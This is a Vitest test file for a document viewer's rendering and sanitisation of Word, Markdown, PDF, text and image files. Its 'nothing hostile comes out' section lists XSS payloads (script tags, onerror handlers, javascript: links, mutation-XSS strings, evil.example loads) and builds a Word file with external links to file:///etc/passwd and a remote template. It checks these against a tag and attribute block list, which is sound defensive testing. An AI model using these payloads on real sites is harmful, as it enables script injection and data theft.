import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { WorkstationClient } from "../../shared/contract/index.ts";
import type { ShownFile } from "../../shared/contract/scripts.ts";
import { Cast } from "../support/cast.ts";
import { fixture, makeDocx, relationshipsPart, wordParagraph } from "../support/documents.ts";
import { takeIn } from "../support/sending.ts";

let cast: Cast;
let staff: WorkstationClient;

beforeAll(async () => {
  cast = await Cast.open();
  staff = await cast.as("stella");
});
afterAll(() => cast.close());

async function shown(name: string, bytes: Uint8Array): Promise<ShownFile> {
  const { files } = await takeIn(staff, cast.centre.register().id, [{ name, bytes }], { acceptSameScript: true });
  return staff.scripts.show({ fileId: files[0]?.id ?? "" });
}

async function html(name: string, bytes: Uint8Array): Promise<string> {
  const file = await shown(name, bytes);
  if (file.as !== "html") throw new Error(`Shown as ${file.as}.`);
  return file.html;
}

describe("documents that other programs wrote", () => {
  test("a Word document is shown with its headings, table and picture, and its words are counted", async () => {
    const file = await shown("assignment.docx", fixture("assignment.docx"));
    if (file.as !== "html") throw new Error(`Shown as ${file.as}.`);
    for (const part of ["<h1>", "<table>", "<ol>", 'src="data:image/png;base64,', "Pendle Row Instruments"])
      expect(file.html.includes(part), part).toBe(true);
    expect(file.words).toBeGreaterThan(850);
    expect(file.words).toBeLessThan(1000);
  });

  test("Markdown, text, PDF and pictures are shown each in their way", async () => {
    expect(await html("notes.md", fixture("notes.md"))).toMatch(/<h1>|<h2>/);
    expect(await shown("notes.txt", fixture("notes.txt"))).toMatchObject({ as: "text" });
    expect(await shown("assignment.pdf", fixture("assignment.pdf"))).toEqual({ as: "pdf" });
    expect(await shown("scan.png", fixture("scan.png"))).toEqual({ as: "image", mediaType: "image/png" });
  });

  test.each([
    ["UTF-8", Buffer.from("Café – 5 €", "utf8")],
    ["UTF-16 LE", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Café – 5 €", "utf16le")])],
    ["UTF-16 BE", Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from("Café – 5 €", "utf16le").swap16()])],
    ["Windows-1252", Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20, 0x96, 0x20, 0x35, 0x20, 0x80])],
  ])("text in %s reads the same", async (_coding, bytes) => {
    expect(await shown("text.txt", bytes)).toEqual({ as: "text", text: "Café – 5 €", words: 2 });
  });
});

describe("what can't be shown is taken in, kept, and says why", () => {
  test("a truncated Word document", async () => {
    const file = await shown("truncated.docx", fixture("damaged/truncated.docx"));
    expect(file).toMatchObject({ as: "unshown", reason: expect.stringMatching(/damaged or incomplete.*kept exactly/) });
  });

  test("a truncated PDF is taken in: its reader says what is wrong with it", async () => {
    expect(await shown("truncated.pdf", fixture("damaged/truncated.pdf"))).toEqual({ as: "pdf" });
  });

  test("a ZIP that only calls itself a Word document", async () => {
    const empty = Buffer.concat([Buffer.from("PK\u0005\u0006", "latin1"), Buffer.alloc(18)]);
    expect(await shown("hollow.docx", empty)).toMatchObject({ as: "unshown" });
  });

  test("a file of a kind that is not shown", async () => {
    expect(await shown("diary.odt", fixture("diary.odt"))).toMatchObject({
      as: "unshown",
      reason: expect.stringContaining("not shown in the program"),
    });
  });

  test("a Word document that unpacks to hundreds of megabytes ends without ending the program", async () => {
    const bomb = await makeDocx(wordParagraph("a ".repeat(60 * 1024 * 1024)));
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const file = await shown("bomb.docx", bomb);
    expect(file.as === "unshown" || file.as === "html").toBe(true);
    expect((await staff.system.status()).phase).toBe("signed-in");
  }, 60_000);
});

describe("nothing hostile comes out", () => {
  /** Every tag that is left, and every attribute: compared with what is harmless rather than searched for what is not. */
  function inspect(markup: string): { tags: string[]; attributes: string[]; values: string[] } {
    const tags: string[] = [];
    const attributes: string[] = [];
    const values: string[] = [];
    for (const [, tag = "", rest = ""] of markup.matchAll(/<\/?([a-z0-9]+)((?:\s+[^<>]*)?)>/gi)) {
      tags.push(tag.toLowerCase());
      for (const [, name = "", value = ""] of rest.matchAll(/([a-z-]+)="([^"]*)"/gi)) {
        attributes.push(name.toLowerCase());
        values.push(value);
      }
    }
    return { tags, attributes, values };
  }

  function expectInert(markup: string): void {
    const { tags, attributes, values } = inspect(markup);
    // Every "<" that is left opens one of the tags found above, or the search has been fooled.
    expect(markup.split("<").length - 1).toBe(tags.length);
    for (const tag of ["script", "style", "iframe", "svg", "math", "object", "embed", "form", "input", "link", "meta"])
      expect(tags).not.toContain(tag);
    for (const name of attributes)
      expect(["href", "src", "alt", "id", "colspan", "rowspan", "scope", "start"]).toContain(name);
    for (const value of values) expect(value).not.toMatch(/^\s*(javascript|vbscript|https?|file|data:text|blob|\/\/)/i);
  }

  const attacks = [
    "<script>window.pwned = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="pwned()">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "<svg><script>pwned()</script></svg>",
    '<svg onload="pwned()"></svg>',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<p style="background:url(https://evil.example/x)">styled</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>pwned()</script>"></iframe>',
    '<object data="data:text/html,x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="passphrase"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="javascript:pwned()">one</a>',
    '<a href="jav&#x09;ascript:pwned()">two</a>',
    '<a href="data:text/html,<script>pwned()</script>">three</a>',
    "[four](javascript:pwned())",
    "[five](https://evil.example 'title')",
    "![six](https://evil.example/pixel.png)",
  ];
  const unclosed = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<textarea><img src=x onerror=pwned()></textarea>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
  ];

  test("Markdown with everything that could run, load or lead away", async () => {
    const lines = attacks.map((attack, index) => `Safe ${index}.\n\n${attack}\n`);
    const markup = await html("hostile.md", Buffer.from(lines.join("\n")));
    expectInert(markup);
    for (const index of attacks.keys()) expect(markup.includes(`Safe ${index}.`), attacks[index - 1] ?? "").toBe(true);
  });

  // What is left open swallows the rest of its document, so each has one of its own.
  test.each(unclosed)("Markdown: %s", async (attack) => {
    expectInert(await html("hostile.md", Buffer.from(`Before.\n\n${attack}\n\nAfter.\n`)));
  });

  test("a Word document with an outside picture, template, link and field fetches nothing and links nowhere", async () => {
    const drawing = `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill>
      <a:blip r:link="out"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
    const links = `<w:p><w:hyperlink r:id="script"><w:r><w:t>Press here</w:t></w:r></w:hyperlink>
      <w:hyperlink r:id="web"><w:r><w:t>Web</w:t></w:r></w:hyperlink></w:p>`;
    const escaped = wordParagraph("&lt;script&gt;pwned()&lt;/script&gt;&lt;img src=x onerror=pwned()&gt;");
    const field = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "javascript:pwned()"</w:instrText></w:r>
      <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Field</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    const base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    const outside = (id: string, type: string, target: string) =>
      `<Relationship Id="${id}" Type="${base}/${type}" Target="${target}" TargetMode="External"/>`;
    const bytes = await makeDocx(
      `${wordParagraph("Before.")}${drawing}${links}${escaped}${field}${wordParagraph("After.")}`,
      {
        "word/_rels/document.xml.rels": relationshipsPart(
          outside("out", "image", "file:///etc/passwd") +
            outside("script", "hyperlink", "javascript:pwned()") +
            outside("web", "hyperlink", "https://evil.example/"),
        ),
        "word/settings.xml": `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${base}"><w:attachedTemplate r:id="t"/></w:settings>`,
        "word/_rels/settings.xml.rels": relationshipsPart(
          outside("t", "attachedTemplate", "https://evil.example/t.dotm"),
        ),
      },
    );
    const markup = await html("hostile.docx", bytes);
    expectInert(markup);
    expect(markup).toContain("Before.");
    expect(markup).toContain("After.");
    expect(markup).not.toContain("<img");
    expect(markup).not.toContain("root:");
  });
});
